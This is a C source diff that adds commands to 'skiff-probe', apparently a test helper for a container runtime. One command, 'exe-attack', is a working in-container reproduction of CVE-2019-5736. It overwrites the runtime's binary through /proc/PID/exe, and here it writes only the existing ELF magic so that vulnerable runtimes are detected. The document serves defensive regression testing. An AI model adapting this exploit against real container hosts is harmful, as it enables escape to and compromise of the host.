@@ -409,6 +409,93 @@ static int cmd_syscall(int argc, char **argv)
 	return 0;
 }
 
+/* syscall-nr NR [ARG…]: a raw syscall with numeric arguments; prints `ok` or the errno's name. */
+static int cmd_syscall_nr(int argc, char **argv)
+{
+	if (argc < 1 || argc > 7) {
+		fprintf(stderr, "skiff-probe: syscall-nr NR [ARG...]\n");
+		return 2;
+	}
+	long a[6] = { 0 };
+	for (int i = 1; i < argc; i++)
+		a[i - 1] = (long)strtoull(argv[i], NULL, 0);
+	long rc = syscall(strtol(argv[0], NULL, 0), a[0], a[1], a[2], a[3], a[4], a[5]);
+	printf("%s\n", rc < 0 ? errname(errno) : "ok");
+	return 0;
+}
+
+/* The pid of another process whose comm is `name`, or 0. */
+static pid_t find_comm(const char *name)
+{
+	DIR *d = opendir("/proc");
+	if (!d)
+		return 0;
+	pid_t found = 0;
+	for (struct dirent *e; !found && (e = readdir(d));) {
+		pid_t pid = (pid_t)atoi(e->d_name);
+		if (pid <= 0 || pid == getpid())
+			continue;
+		char path[64], comm[64] = "";
+		snprintf(path, sizeof path, "/proc/%d/comm", pid);
+		FILE *f = fopen(path, "re");
+		if (!f)
+			continue;
+		if (fgets(comm, sizeof comm, f) && strncmp(comm, name, strlen(name)) == 0 && comm[strlen(name)] == '\n')
+			found = pid;
+		fclose(f);
+	}
+	closedir(d);
+	return found;
+}
+
+/*
+ * exe-attack [SECONDS]: CVE-2019-5736 from inside. Waits for a skiff-shim process in this pid
+ * namespace (an init still in its set-up), opens its /proc/PID/exe for writing, keeps an O_PATH fd to
+ * it and, once that process has exec'd (ETXTBSY gone), reopens it for writing and writes the ELF
+ * magic at offset 0 (the same bytes, so a vulnerable runtime is caught without being destroyed).
+ */
+static int cmd_exe_attack(int argc, char **argv)
+{
+	int seconds = argc > 0 ? atoi(argv[0]) : 10;
+	struct timespec tick = { 0, 10 * 1000 * 1000 };
+	pid_t pid = 0;
+	for (int i = 0; i < seconds * 100 && !(pid = find_comm("skiff-shim")); i++)
+		nanosleep(&tick, NULL);
+	if (!pid) {
+		printf("no skiff-shim found\n");
+		return 1;
+	}
+	char exe[64];
+	snprintf(exe, sizeof exe, "/proc/%d/exe", pid);
+	int w = open(exe, O_WRONLY | O_CLOEXEC);
+	printf("open-write: %s\n", w < 0 ? errname(errno) : "ok");
+	int fd = open(exe, O_PATH | O_CLOEXEC);
+	if (fd < 0) {
+		printf("open-path: %s\n", errname(errno));
+		return 0;
+	}
+	fflush(stdout);
+	char self[64];
+	snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
+	for (int i = 0; i < seconds * 100; i++) {
+		if (w < 0)
+			w = open(self, O_WRONLY | O_CLOEXEC);
+		if (w < 0 && errno == ETXTBSY) {
+			nanosleep(&tick, NULL);
+			continue;
+		}
+		if (w < 0) {
+			printf("reopen-write: %s\n", errname(errno));
+			return 0;
+		}
+		ssize_t n = pwrite(w, "\177ELF", 4, 0);
+		printf("%s\n", n == 4 ? "written" : n < 0 ? errname(errno) : "short write");
+		return 0;
+	}
+	printf("reopen-write: timeout\n");
+	return 0;
+}
+
 static int cmd_mountinfo(int argc, char **argv)
 {
 	(void)argc;
@@ -429,6 +516,7 @@ static const struct {
 	{ "ls", cmd_ls },         { "sleep", cmd_sleep },       { "exit", cmd_exit },
 	{ "env", cmd_env },       { "fds", cmd_fds },           { "caps", cmd_caps },
 	{ "syscall", cmd_syscall }, { "mountinfo", cmd_mountinfo },
+	{ "syscall-nr", cmd_syscall_nr }, { "exe-attack", cmd_exe_attack },
 };
 
 int main(int argc, char **argv)
